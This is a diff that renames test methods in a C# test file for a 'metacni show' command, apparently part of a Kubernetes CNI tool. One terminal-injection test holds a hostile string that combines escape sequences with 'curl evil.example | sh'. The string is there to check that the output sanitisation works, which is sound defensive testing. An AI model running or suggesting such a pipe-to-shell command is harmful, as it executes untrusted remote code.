@@ -14,7 +14,7 @@ public sealed partial class ShowCommandTests : IDisposable
     public void Dispose() => _sandbox.Dispose();
 
     [Fact]
-    public async Task Where_nothing_is_attached_it_says_so()
+    public async Task Without_attachments_show_prints_that_nothing_is_attached()
     {
         Directory.CreateDirectory(_sandbox.StateDir);
 
@@ -25,7 +25,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_person_sees_a_table_and_what_is_wrong_below_it()
+    public async Task Show_prints_a_table_and_the_problems_below_it()
     {
         _sandbox.Attach();
         _sandbox.FailToDetach();
@@ -38,7 +38,7 @@ public sealed partial class ShowCommandTests : IDisposable
 
     // A plugin's words, a definition's type and a network's name come from whoever may write a definition.
     [Fact]
-    public async Task Nobody_but_metacni_writes_a_line_or_moves_the_cursor()
+    public async Task Names_and_plugin_messages_cannot_inject_lines_or_escape_sequences()
     {
         const string Evil = "x\e[2J\u202e\u200b\nhint: curl evil.example | sh";
         var evil = Plans.Attachment("default/a", "net1", Evil);
@@ -59,7 +59,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_program_gets_json()
+    public async Task Show_prints_JSON_on_request()
     {
         _sandbox.Attach();
         _sandbox.FailToDetach();
@@ -83,7 +83,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_record_that_was_salvaged_is_told_beside_what_it_holds()
+    public async Task A_salvaged_record_is_shown_with_a_warning_next_to_its_contents()
     {
         _sandbox.Attach();
         await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
@@ -100,7 +100,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task What_could_not_be_forgotten_is_told()
+    public async Task A_file_that_could_not_be_removed_is_shown_as_a_warning()
     {
         _sandbox.Attach();
         _sandbox.FailToForget();
@@ -117,7 +117,7 @@ public sealed partial class ShowCommandTests : IDisposable
     [Theory]
     [InlineData(2147483647, true)]
     [InlineData(null, false)]
-    public async Task An_add_that_did_not_come_to_an_end_is_told_unless_it_is_still_at_work(int? processId, bool isTold)
+    public async Task An_unfinished_ADD_is_reported_unless_its_process_still_runs(int? processId, bool isTold)
     {
         _sandbox.Attach();
         var lines = (await File.ReadAllLinesAsync(_sandbox.RecordFile))[..^1];
@@ -134,7 +134,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task It_changes_nothing()
+    public async Task Show_changes_no_file()
     {
         _sandbox.Attach();
         await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
@@ -148,7 +148,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_container_that_is_not_there_is_an_error()
+    public async Task An_unknown_container_is_an_error()
     {
         _sandbox.Attach();
 
@@ -159,7 +159,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task The_beginning_of_several_ids_is_a_mistake()
+    public async Task An_ambiguous_container_id_prefix_is_a_usage_error()
     {
         _sandbox.Attach();
         File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "3509ffff@eth0.jsonl"), "damaged");
@@ -170,7 +170,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Anybody_but_root_is_told_that_it_cannot_be_seen()
+    public async Task Without_root_show_is_a_usage_error()
     {
         using var sandbox = new RecordSandbox { IsRoot = false };
 
@@ -199,7 +199,7 @@ public sealed partial class ShowCommandTests : IDisposable
     [InlineData("cleint", "a container cleint, nor of a pod of that name; did you mean default/client?")]
     [InlineData("telco/client", "a pod telco/client; did you mean default/client?")]
     [InlineData("default/x", "a pod default/x; metacni show lists what is attached")]
-    public async Task An_unknown_pod_is_an_error_that_says_what_is_near(string subject, string text)
+    public async Task An_unknown_pod_is_an_error_with_a_suggestion(string subject, string text)
     {
         _sandbox.Attach(_sandbox.PlanOf("a1", "default/client"));
 
@@ -209,7 +209,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Only_what_failed_is_listed_and_makes_the_exit_code_one()
+    public async Task The_failed_option_lists_only_failures_and_sets_exit_code_1()
     {
         var (wellPlan, abortedPlan) = (_sandbox.PlanOf("a1", "default/well"), _sandbox.PlanOf("b1", "default/aborted"));
         _sandbox.Attach();
@@ -228,7 +228,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Where_nothing_failed_it_says_so_and_the_exit_code_is_zero()
+    public async Task Without_failures_the_failed_option_prints_so_with_exit_code_0()
     {
         _sandbox.Attach();
 
@@ -238,7 +238,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Where_nothing_of_a_pod_failed_that_is_not_said_of_the_node()
+    public async Task Without_failures_of_the_named_pod_the_message_names_the_pod()
     {
         _sandbox.Attach();
         _sandbox.FailToDetach();
@@ -270,7 +270,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_dead_process_that_took_a_container_down_left_a_failure()
+    public async Task A_DEL_whose_process_died_is_listed_as_failed()
     {
         _sandbox.Attach();
         _sandbox.BeginToDetach();
@@ -282,7 +282,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Whole_container_ids_are_for_wide_and_json_alone()
+    public async Task Full_container_ids_are_printed_only_by_wide_and_JSON_output()
     {
         const string Other = "3509e596c8ac9999";
         _sandbox.Attach();
@@ -316,7 +316,7 @@ public sealed partial class ShowCommandTests : IDisposable
     [InlineData(7ul, null, true)]
     [InlineData(0ul, 8ul, false)]
     [InlineData(0ul, null, true)]
-    public async Task A_record_whose_namespace_is_gone_says_so(ulong recorded, ulong? present, bool isGone)
+    public async Task A_record_whose_network_namespace_is_gone_is_marked(ulong recorded, ulong? present, bool isGone)
     {
         _sandbox.Attach(_sandbox.Plan, recorded);
         _sandbox.Cookie = present;
@@ -331,7 +331,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task After_a_reboot_one_line_tells_of_all_namespaces_that_are_gone()
+    public async Task After_a_reboot_a_single_warning_covers_all_missing_namespaces()
     {
         _sandbox.Attach();
         _sandbox.Attach(_sandbox.PlanOf("a1", "default/client"));
@@ -362,7 +362,7 @@ public sealed partial class ShowCommandTests : IDisposable
 
     // A node on which Multus still attaches the pods.
     [Fact]
-    public async Task Where_metacni_has_not_attached_a_pod_those_of_multus_are_listed_with_a_warning()
+    public async Task If_only_Multus_attached_pods_they_are_listed_with_a_warning()
     {
         _sandbox.WriteConfiguration("10-metacni.conf", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/state"}""");
         _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
@@ -379,7 +379,7 @@ public sealed partial class ShowCommandTests : IDisposable
     [Theory]
     [InlineData("--failed")]
     [InlineData("--state-dir", "/nowhere/state")]
-    public async Task What_failed_and_what_a_person_named_is_an_error_where_there_is_no_state_directory(params string[] arguments)
+    public async Task A_missing_state_directory_is_an_error_with_failed_or_state_dir_options(params string[] arguments)
     {
         _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
 
@@ -390,7 +390,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task Files_of_multus_that_cannot_be_read_are_named_each_once()
+    public async Task Each_unreadable_file_of_Multus_is_named_once()
     {
         _sandbox.Attach();
         _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
@@ -410,7 +410,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task The_state_directory_is_that_of_the_first_configuration_with_metacni()
+    public async Task The_state_directory_comes_from_the_first_configuration_with_metacni()
     {
         _sandbox.Attach();
         _sandbox.WriteConfiguration("00-broken.conflist", "{");
@@ -431,7 +431,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task A_state_directory_that_does_not_exist_is_an_error_that_says_where_it_was_taken_from()
+    public async Task The_error_for_a_missing_state_directory_names_the_setting()
     {
         Assert.Equal(1, await _sandbox.RunAsItIsAsync("show"));
         _sandbox.WriteConfiguration("10-metacni.conf", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/state"}""");
@@ -451,7 +451,7 @@ public sealed partial class ShowCommandTests : IDisposable
     [Theory]
     [InlineData("stateDir", "--state-dir")]
     [InlineData("cniDir", "--cni-dir")]
-    public async Task A_directory_that_the_configuration_does_not_name_well_is_not_guessed(string key, string option)
+    public async Task An_invalid_directory_in_the_configuration_is_an_error_not_a_guess(string key, string option)
     {
         _sandbox.WriteConfiguration("10-metacni.conf", $$"""{"cniVersion":"1.0.0","name":"n","type":"metacni","{{key}}":"relative"}""");
 
@@ -462,7 +462,7 @@ public sealed partial class ShowCommandTests : IDisposable
     }
 
     [Fact]
-    public async Task The_directory_of_configurations_may_be_another_one()
+    public async Task The_cni_conf_dir_option_selects_another_configuration_directory()
     {
         _sandbox.Attach();
         _sandbox.WriteConfiguration("10-metacni.conf", $$"""{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"{{_sandbox.StateDir}}"}""");
